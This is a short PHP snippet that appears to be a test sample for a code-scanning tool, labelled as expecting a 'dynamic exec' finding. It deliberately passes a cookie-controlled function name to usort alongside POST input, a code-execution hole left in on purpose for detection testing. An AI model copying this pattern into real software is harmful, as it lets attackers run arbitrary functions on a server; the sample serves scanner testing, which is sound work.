<?php
// triage-expect: triage_php_tiny_dynamic_exec
$order = isset($_COOKIE['sort']) ? $_COOKIE['sort'] : 'strcmp';
$rows = array($_POST['q'], '');
usort($rows, $order);
